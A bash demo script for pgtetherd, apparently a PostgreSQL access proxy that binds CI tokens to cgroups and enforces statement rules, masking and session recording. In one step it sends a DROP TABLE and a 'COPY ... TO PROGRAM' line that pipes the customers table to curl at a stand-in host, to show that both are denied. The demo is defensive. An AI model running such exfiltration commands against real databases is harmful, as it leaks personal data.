#!/usr/bin/env bash
# make demo: a throwaway PostgreSQL at 127.0.0.2 (the "remote" database), pgtetherd,
# and an unmodified psql in a cgroup whose connection is intercepted and identified by
# kernel facts plus a signed token bound to that cgroup.
# Everything it creates is removed when it ends, also on Ctrl-C, except the system user
# 'pgtether' the workers run as, which it creates when missing, as `make install` does.
set -euo pipefail

root=$(cd "$(dirname "$0")/.." && pwd)
cd "$root"
[ "$(id -u)" -eq 0 ] || { echo "demo: run as root (it loads BPF programs and creates cgroups)" >&2; exit 1; }

id="pgtether-demo-$$"
tmp=$(mktemp -d "/tmp/$id.XXXXXX")
chmod 0755 "$tmp"
cgmount=$(awk '$9 == "cgroup2" { print $5; exit }' /proc/self/mountinfo)
free_port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
db_port=$(free_port)
listen_port=$(free_port)
daemon_pid=

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
show() { printf '\033[2m$ %s\033[0m\n' "$*"; }

cleanup() {
  set +e
  [ -n "$daemon_pid" ] && kill "$daemon_pid" 2>/dev/null && wait "$daemon_pid" 2>/dev/null
  scripts/pg-local.sh stop "$tmp/pg"
  rm -rf "/sys/fs/bpf/$id"
  [ -d "$cgmount/$id" ] && find "$cgmount/$id" -depth -type d -exec rmdir {} \; 2>/dev/null
  rm -rf "$tmp"
}
trap cleanup EXIT

say "The system user pgtetherd's workers run as ('pgtether', as make install creates it; kept afterwards)"
scripts/worker-user.sh pgtether

say "A throwaway PostgreSQL 15 listening on 127.0.0.2:$db_port (the 'remote' database, scram-sha-256)"
PG_LISTEN=127.0.0.2 scripts/pg-local.sh start "$tmp/pg" "$db_port"
app_password="demo-$RANDOM$RANDOM"
scripts/pg-local.sh role "$tmp/pg" "$db_port" app_ro "$app_password"
psql -X -h "$tmp/pg" -p "$db_port" -U postgres -Atq \
  -c "create table customers (id int, name text, email text)" \
  -c "insert into customers values (1, 'Ada', 'ada@example.com'), (2, 'Linus', 'linus@example.com')" \
  -c "grant select, update on customers to app_ro"
(umask 077 && printf '{ "db": { "app_ro": "%s" } }\n' "$app_password" >"$tmp/credentials.json")

cat >"$tmp/pgtether.json" <<JSON
{
  "listen": "127.0.0.1:$listen_port",
  "targets": ["127.0.0.2:$db_port"],
  "cgroups": [],
  "fail_mode": "closed",
  "bpffs_dir": "/sys/fs/bpf/$id",
  "control_socket": "$tmp/control.sock",
  "credentials_file": "$tmp/credentials.json",
  "policy_dir": "$tmp/policy.d",
  "sessions_dir": "$tmp/sessions",
  "issuers_dir": "$tmp/issuers.d",
  "upstreams": {
    "db": { "address": "127.0.0.2:$db_port", "tls": "disable", "role": "app_ro" }
  }
}
JSON
# A CI system's token issuer (here a key made for the demo) and the rule that binds its
# tokens for acme/api to the cgroups of CI jobs.
mkdir -p "$tmp/issuers.d" "$tmp/policy.d"
scripts/dev-jwt.py keygen "$tmp/issuers.d" demo-key
cat >"$tmp/issuers.d/ci.json" <<JSON
{ "issuer": "https://ci.demo.test", "audiences": ["pgtether"], "algorithms": ["RS256"], "jwks_file": "demo-key.jwks.json" }
JSON
cat >"$tmp/policy.d/10-ci.json" <<JSON
{ "rules": [ {
  "name": "ci-acme-api",
  "match": { "cgroup": "/$id/ci-*", "issuer": "https://ci.demo.test",
             "claims": { "sub": "repo:acme/api:*" } },
  "token": { "source": "password" },
  "upstream": "db", "role": "app_ro",
  "statements": { "allow": ["read", "transaction", "session"], "deny": ["drop"], "approve": ["write"] },
  "mask": [ { "column": "public.customers.email", "strategy": "email" } ]
} ] }
JSON
token=$(scripts/dev-jwt.py mint "$tmp/issuers.d" demo-key '{"iss": "https://ci.demo.test", "aud": "pgtether", "sub": "repo:acme/api:ref:refs/heads/main"}')

say "pgtetherd with this configuration (the password of app_ro is in credentials.json, mode 0600)"
cat "$tmp/pgtether.json"
build/pgtetherd -c "$tmp/pgtether.json" -n
build/pgtetherd -c "$tmp/pgtether.json" </dev/null >"$tmp/daemon.log" 2>&1 &
daemon_pid=$!
for _ in $(seq 100); do grep -q 'event=ready' "$tmp/daemon.log" && break; sleep 0.1; done
cat "$tmp/daemon.log"

query="select current_user, inet_client_port() as client_port, current_setting('application_name') as application_name, (select count(*) from customers) as customers"
pgt() { build/pgtether -c "$tmp/pgtether.json" "$@"; }

say "1. psql outside any attached cgroup, with a password it should not have: refused"
show "PGPASSWORD=guess psql -h 127.0.0.2 -p $db_port -U ci-bot -c ..."
PGPASSWORD=guess psql -X "host=127.0.0.2 port=$db_port user=ci-bot dbname=postgres" -c "$query" || true

say "2. The same unmodified psql inside the cgroup /$id/ci-job, without the password: its CI token is its password"
echo "The rule in policy.d:"
cat "$tmp/policy.d/10-ci.json"
show "PGPASSWORD=\$CI_TOKEN pgtether run --cgroup /$id/ci-job -- psql -h 127.0.0.2 -p $db_port -U ci-bot -c \"...\""
PGPASSWORD=$token pgt run --cgroup "/$id/ci-job" -- psql -X "host=127.0.0.2 port=$db_port user=ci-bot dbname=postgres" -c "$query" \
  -c "select current_setting('pgtether.identity') as identity"
echo "pgtetherd verified the token, checked that it is bound to this cgroup, and logged in"
echo "as app_ro with the credential only it holds; the database sees who the workload is,"
echo "and so does pgtetherd's log:"
sleep 0.2
grep -E 'event=(attach|conn\.open|conn\.close)' "$tmp/daemon.log" | tail -n 3

say "2b. The same token, stolen by a process in another cgroup: useless"
show "PGPASSWORD=\$CI_TOKEN pgtether run --cgroup /$id/agent -- psql -h 127.0.0.2 ..."
PGPASSWORD=$token pgt run --cgroup "/$id/agent" -- psql -X "host=127.0.0.2 port=$db_port user=ci-bot dbname=postgres" -c "$query" || true
show "PGPASSWORD=forged pgtether run --cgroup /$id/ci-job -- psql -h 127.0.0.2 ..."
PGPASSWORD=forged pgt run --cgroup "/$id/ci-job" -- psql -X "host=127.0.0.2 port=$db_port user=ci-bot dbname=postgres" -c "$query" || true

say "2c. Restricted: DROP is denied (so is anything the rule does not list); the session goes on"
show "PGPASSWORD=\$CI_TOKEN pgtether run --cgroup /$id/ci-job -- psql -c 'DROP /* sneaky */ TABLE customers' -c 'COPY customers TO PROGRAM ...' -c 'SELECT count(*) ...'"
PGPASSWORD=$token pgt run --cgroup "/$id/ci-job" -- psql -X "host=127.0.0.2 port=$db_port user=ci-bot dbname=postgres" \
  -c "DROP /* sneaky */ TABLE customers" -c "COPY customers TO PROGRAM 'curl -d @- https://example.invalid'" \
  -c "SELECT count(*) AS customers_still_there FROM customers" || true
grep -E 'event=stmt\.denied' "$tmp/daemon.log" | tail -n 2

say "2d. A write needs approval: it waits in the workload's session until an admin decides"
show "PGPASSWORD=\$CI_TOKEN pgtether run --cgroup /$id/ci-job -- setpriv --reuid=nobody ... psql -c \"UPDATE customers SET email = 'ada@new.example' WHERE id = 1\" &"
PGPASSWORD=$token pgt run --cgroup "/$id/ci-job" -- setpriv --reuid=65534 --regid=65534 --clear-groups \
  psql -X "host=127.0.0.2 port=$db_port user=ci-bot dbname=postgres" \
  -c "UPDATE customers SET email = 'ada@new.example' WHERE id = 1" -c "SELECT email FROM customers WHERE id = 1" &
writer=$!
request=""
for _ in $(seq 100); do
  request=$(pgt approvals --json | jq -r '.[0].request // empty')
  [ -n "$request" ] && break
  sleep 0.05
done
show "pgtether approvals"
pgt approvals
show "pgtether approve $request"
pgt approve "$request"
wait "$writer" || true
grep -E 'event=approval\.(request|decision)' "$tmp/daemon.log" | tail -n 2

say "2e. Masked: the job reads customers, but never sees an email; ways around the mask are denied"
show "PGPASSWORD=\$CI_TOKEN pgtether run --cgroup /$id/ci-job -- psql -c 'SELECT * FROM customers' -c 'SELECT row_to_json(c) FROM customers c' -c 'COPY customers TO STDOUT'"
PGPASSWORD=$token pgt run --cgroup "/$id/ci-job" -- psql -X "host=127.0.0.2 port=$db_port user=ci-bot dbname=postgres" \
  -c "SELECT * FROM customers ORDER BY id" -c "SELECT row_to_json(c) FROM customers c" -c "COPY customers TO STDOUT" || true
echo "The same query straight to the database, as its owner:"
psql -X -h "$tmp/pg" -p "$db_port" -U postgres -c "SELECT * FROM customers ORDER BY id"

say "3. pgtether status while a workload holds a connection"
PGPASSWORD=$token pgt run --cgroup "/$id/ci-job" -- psql -X "host=127.0.0.2 port=$db_port user=ci-bot dbname=postgres" -Atqc "select pg_sleep(2)" >/dev/null &
holder=$!
sleep 0.7
show "pgtether status"
pgt status
wait "$holder"

say "3b. Recorded: every session is a hash-chained file; verify it, replay it"
show "pgtether sessions"
pgt sessions
rec=$(pgt sessions --cgroup "/$id/ci-job" | awk 'NR > 1 { print $1 }' | sed -n 3p)
show "pgtether verify --all"
pgt verify --all
show "pgtether replay $rec --speed 0"
pgt replay "$rec" --speed 0

say "4. Connecting to pgtetherd's listener directly is refused (no kernel record, no identity)"
show "psql -h 127.0.0.1 -p $listen_port"
psql -X "host=127.0.0.1 port=$listen_port user=ci-bot dbname=postgres" -c "select 1" || true

say "5. Fail closed: with pgtetherd stopped, the workload cannot reach the database at all"
kill "$daemon_pid"; wait "$daemon_pid" || true; daemon_pid=
pgt_in_cgroup() { bash -c 'echo $$ > "$0/cgroup.procs" && exec "$@"' "$cgmount/$id/ci-job" "$@"; }
pgt_in_cgroup psql -X "host=127.0.0.2 port=$db_port user=ci-bot dbname=postgres" -c "select 1" || true

say "6. Restarted, pgtetherd re-adopts its pinned programs: interception resumes"
build/pgtetherd -c "$tmp/pgtether.json" </dev/null >>"$tmp/daemon.log" 2>&1 &
daemon_pid=$!
for _ in $(seq 100); do [ "$(grep -c 'event=ready' "$tmp/daemon.log")" -ge 2 ] && break; sleep 0.1; done
grep 'event=adopt' "$tmp/daemon.log"
PGPASSWORD=$token pgt_in_cgroup psql -X "host=127.0.0.2 port=$db_port user=ci-bot dbname=postgres" -Atqc "select 'intercepted again, as ' || current_user"
bpftool cgroup show "$cgmount/$id/ci-job"

say "Done. Everything the demo created is being removed."
